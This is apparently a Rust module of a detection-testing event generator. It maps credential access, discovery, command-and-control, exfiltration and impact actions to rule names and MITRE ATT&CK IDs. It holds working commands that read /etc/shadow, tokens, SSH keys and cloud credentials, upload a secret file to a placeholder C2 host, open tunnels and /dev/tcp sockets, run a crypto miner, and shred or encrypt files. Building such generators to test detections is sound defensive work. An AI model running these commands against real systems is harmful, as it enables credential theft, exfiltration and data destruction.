//! Actions: credential access, discovery, command and control, lateral movement,
//! exfiltration and impact.
use anyhow::Result;

use super::{act, py, tool, work, Action, Ctx, API, C2, METADATA, PUBLIC, WORK};

pub(crate) fn actions() -> Vec<Action> {
    vec![
        // ---- credential access
        act!("cat /etc/shadow", "Read sensitive file untrusted", "T1003.008", read_shadow),
        act!("cat SA token", "Read service account token with file utility", "T1528", read_sa_token),
        act!("cat id_rsa", "Read SSH private key", "T1552.004", read_ssh_key),
        act!("cat .aws/credentials", "Read cloud or cluster credentials with file utility", "T1552.001", read_aws),
        act!("grep for private keys", "Search private keys or passwords", "T1552.001", grep_keys),
        act!("find id_rsa", "Search private keys or passwords", "T1552.001", find_keys),
        act!("cat /proc/PID/environ", "Read process environment or memory", "T1003.007", read_environ),
        act!("curl metadata service", "Contact cloud metadata service from container", "T1552.005", metadata),
        act!("cat kubernetes pki key", "Read Kubernetes node credentials from container", "T1552.001", kube_pki),
        act!("AF_PACKET socket", "Packet socket created in container", "T1040", packet_socket),
        // ---- discovery
        act!("id", "Discovery command in container", "T1033", id),
        act!("id on a terminal", "Discovery command in interactive container session", "T1033", id_tty),
        act!("nmap scan", "Network scanning tool launched", "T1046", nmap),
        act!("find -perm -4000", "Search for SUID binaries", "T1083", find_suid),
        act!("curl API server", "K8S API server contacted by shell or download tool", "T1613", k8s_api_curl),
        act!("openssl to API server", "Contact K8S API server from container", "T1613", k8s_api_client),
        // ---- command and control, lateral movement, exfiltration
        act!("connect :4444", "Outbound connection to suspicious port", "T1071", suspicious_port),
        act!("shell connects out", "Shell opened network connection", "T1071", shell_connect),
        act!("connect public :9999", "Outbound connection to non-standard port from container", "T1571", nonstandard),
        act!("connect Tor :9050", "Outbound connection to Tor port", "T1090.003", tor),
        act!("ssh -R tunnel", "Tunneling tool launched", "T1572", ssh_tunnel),
        act!("chisel client", "Tunneling tool launched", "T1572", chisel),
        act!("ssh to another host", "SSH client launched in container", "T1021.004", ssh_lateral),
        act!("nc -z probe", "Netcat-like network tool launched in container", "T1095", nc_plain),
        act!("scp out", "Remote file copy tool launched in container", "T1020", scp),
        act!("rsync out", "Remote file copy tool launched in container", "T1020", rsync),
        act!("curl -T upload", "Data upload with download tool", "T1048.003", curl_upload),
        act!("curl -o /tmp", "Download to temporary directory in container", "T1105", download_tmp),
        // ---- impact
        act!("xmrig", "Crypto miner executed", "T1496", xmrig),
        act!("stratum URL", "Crypto mining pool in command line", "T1496", stratum),
        act!("shred -u", "Data destruction tool launched", "T1485", shred),
        act!("rm --no-preserve-root", "Data destruction tool launched", "T1485", rm_no_preserve),
        act!("openssl enc", "File encryption tool launched in container", "T1486", openssl_enc),
    ]
}

fn read_shadow(c: &Ctx) -> Result<()> {
    c.pod.run("cat", &["/etc/shadow"], None, None)
}

fn read_sa_token(c: &Ctx) -> Result<()> {
    c.pod.run("cat", &["/var/run/secrets/kubernetes.io/serviceaccount/token"], None, None)
}

fn read_ssh_key(c: &Ctx) -> Result<()> {
    c.pod.run("cat", &[&work("home/.ssh/id_rsa")], None, None)
}

fn read_aws(c: &Ctx) -> Result<()> {
    c.pod.run("cat", &[&work("home/.aws/credentials")], None, None)
}

fn grep_keys(c: &Ctx) -> Result<()> {
    c.pod.run("grep", &["-r", "BEGIN RSA PRIVATE", &work("empty")], None, None)
}

fn find_keys(c: &Ctx) -> Result<()> {
    c.pod.run("find", &[WORK, "-name", "id_rsa"], None, None)
}

fn read_environ(c: &Ctx) -> Result<()> {
    c.pod.run("cat", &[&format!("/proc/{}/environ", c.main_pid)], None, None)
}

fn metadata(c: &Ctx) -> Result<()> {
    c.pod.run("curl", &["-s", "-m", "2", &format!("http://{METADATA}/latest/meta-data/iam/")], None, None)
}

fn kube_pki(c: &Ctx) -> Result<()> {
    c.pod.run("cat", &["/etc/kubernetes/pki/lnr-evtgen.key"], None, None)
}

fn packet_socket(c: &Ctx) -> Result<()> {
    py(c, "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close()", None)
}

fn id(c: &Ctx) -> Result<()> {
    c.pod.run("id", &[], None, None)
}

fn id_tty(c: &Ctx) -> Result<()> {
    // `id` with a pseudo-terminal as its controlling terminal (as under kubectl exec -it).
    py(
        c,
        "import fcntl, os, subprocess, termios\nm, s = os.openpty()\n\
         subprocess.run(['id'], stdin=s, stdout=s, stderr=s, start_new_session=True,\n\
         \x20              preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0))",
        None,
    )
}

fn nmap(c: &Ctx) -> Result<()> {
    tool(c, "nmap", &["-sS", "-p", "1-1024", C2])
}

fn find_suid(c: &Ctx) -> Result<()> {
    c.pod.run("find", &[WORK, "-perm", "-4000", "-type", "f"], None, None)
}

fn k8s_api_curl(c: &Ctx) -> Result<()> {
    c.pod.run("curl", &["-sk", "-m", "2", &format!("https://{API}:6443/api/v1/secrets")], None, None)
}

fn connect_py(c: &Ctx, host: &str, port: u16) -> Result<()> {
    py(
        c,
        &format!(
            "import socket\ns = socket.create_connection(('{host}', {port}), timeout=2)\ns.sendall(b'hi')\ns.close()"
        ),
        None,
    )
}

fn k8s_api_client(c: &Ctx) -> Result<()> {
    // A client that is not a shell or download tool (python, curl... are the other rule's).
    c.pod.run("openssl", &["s_client", "-connect", &format!("{API}:6443")], None, None)
}

fn suspicious_port(c: &Ctx) -> Result<()> {
    connect_py(c, C2, 4444)
}

fn shell_connect(c: &Ctx) -> Result<()> {
    // The script comes on stdin, so the command line is a bare `bash`.
    c.pod.run("bash", &[], None, Some(&format!("exec 3<>/dev/tcp/{PUBLIC}/80\necho 'GET / HTTP/1.0' >&3\n")))
}

fn nonstandard(c: &Ctx) -> Result<()> {
    connect_py(c, PUBLIC, 9999)
}

fn tor(c: &Ctx) -> Result<()> {
    connect_py(c, PUBLIC, 9050)
}

fn ssh_opts() -> [&'static str; 6] {
    ["-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-o", "StrictHostKeyChecking=no"]
}

fn ssh_tunnel(c: &Ctx) -> Result<()> {
    let mut args: Vec<&str> = ssh_opts().to_vec();
    let target = format!("evt@{C2}");
    args.extend(["-N", "-R", "9000:127.0.0.1:22", &target]);
    c.pod.run("ssh", &args, None, None)
}

fn chisel(c: &Ctx) -> Result<()> {
    tool(c, "chisel", &["client", &format!("{C2}:8080"), "R:socks"])
}

fn ssh_lateral(c: &Ctx) -> Result<()> {
    let mut args: Vec<&str> = ssh_opts().to_vec();
    let target = format!("evt@{C2}");
    args.extend([&target, "id"]);
    c.pod.run("ssh", &args, None, None)
}

fn nc_plain(c: &Ctx) -> Result<()> {
    tool(c, "nc", &["-z", "-v", C2, "4444"])
}

fn scp(c: &Ctx) -> Result<()> {
    let mut args: Vec<&str> = ssh_opts().to_vec();
    let secret = work("secret.txt");
    let target = format!("evt@{C2}:/tmp/");
    args.extend([secret.as_str(), target.as_str()]);
    c.pod.run("scp", &args, None, None)
}

fn rsync(c: &Ctx) -> Result<()> {
    c.pod.run("rsync", &["--contimeout=2", &work("secret.txt"), &format!("rsync://{C2}/drop/")], None, None)
}

fn curl_upload(c: &Ctx) -> Result<()> {
    c.pod.run("curl", &["-s", "-m", "2", "-T", &work("secret.txt"), &format!("http://{C2}:8080/upload")], None, None)
}

fn download_tmp(c: &Ctx) -> Result<()> {
    c.pod.run(
        "curl",
        &["-s", "-m", "2", "-o", &work("payload.bin"), &format!("http://{C2}:8080/payload.bin")],
        None,
        None,
    )
}

fn xmrig(c: &Ctx) -> Result<()> {
    tool(c, "xmrig", &["--donate-level", "1", "--threads", "1"])
}

fn stratum(c: &Ctx) -> Result<()> {
    tool(c, "worker", &["-o", "stratum+tcp://pool.example:3333", "-u", "lnr-evtgen"])
}

fn shred(c: &Ctx) -> Result<()> {
    c.pod.run("shred", &["-u", &work("victim.dat")], None, None)
}

fn rm_no_preserve(c: &Ctx) -> Result<()> {
    c.pod.run("rm", &["-rf", "--no-preserve-root", &work("gone")], None, None)
}

fn openssl_enc(c: &Ctx) -> Result<()> {
    let (src, dst) = (work("secret.txt"), work("secret.enc"));
    c.pod.run(
        "openssl",
        &["enc", "-aes-256-cbc", "-pbkdf2", "-pass", "pass:lnr", "-in", &src, "-out", &dst],
        None,
        None,
    )
}
